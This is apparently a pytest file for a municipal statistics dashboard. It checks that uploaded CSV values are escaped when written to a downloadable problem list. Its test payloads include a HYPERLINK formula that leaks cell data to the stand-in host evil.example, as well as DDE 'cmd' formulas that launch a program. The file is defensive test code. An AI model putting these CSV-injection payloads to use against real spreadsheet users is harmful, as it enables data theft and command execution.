"""The downloaded problem list cannot run a formula from the uploaded file (issue 12 F10)."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.report.uploads import problems_csv
from indicators.core.problems import Problem, ProblemsError
from indicators.ingest.upload import read_upload

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
)


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_formula_payloads_from_an_uploaded_file_are_written_as_text(catalog, areas):
    # The review's attack: formulas as values and as the area, in a file that is refused.
    lines = ["Område;År;Värde", f"101;2024;{PAYLOADS[0]}", f"{PAYLOADS[1]};2024;80"]
    lines += [f"10{i};2024;{p}" for i, p in enumerate(PAYLOADS[2:], start=2)]
    data = ("\n".join(lines) + "\n").encode()
    with pytest.raises(ProblemsError) as err:
        read_upload(data, "=x.csv", catalog=catalog, areas=areas, defaults=_defaults())
    rows = _cells(problems_csv(err.value.problems, "sv"))[1:]
    values = {r[3] for r in rows}
    for payload in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]):
        assert "'" + payload in values  # shown to the reader, but as text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[0] == "'=x.csv"


def test_a_tab_or_carriage_return_at_the_start_is_neutralised_too():
    problems = [Problem.at("f.csv", "not_a_number_eg", row=2, column="\tVärde", value="\r=1+1")]
    (row,) = _cells(problems_csv(problems, "en"))[1:]
    assert row[2] == "'\tVärde"
    assert row[3] == "'\r=1+1"


def _defaults():
    from indicators.ingest.upload import UploadDefaults

    return UploadDefaults(
        municipality_code="1480",
        area_type="primaromrade",
        indicator="life_expectancy",
        source="SCB",
    )
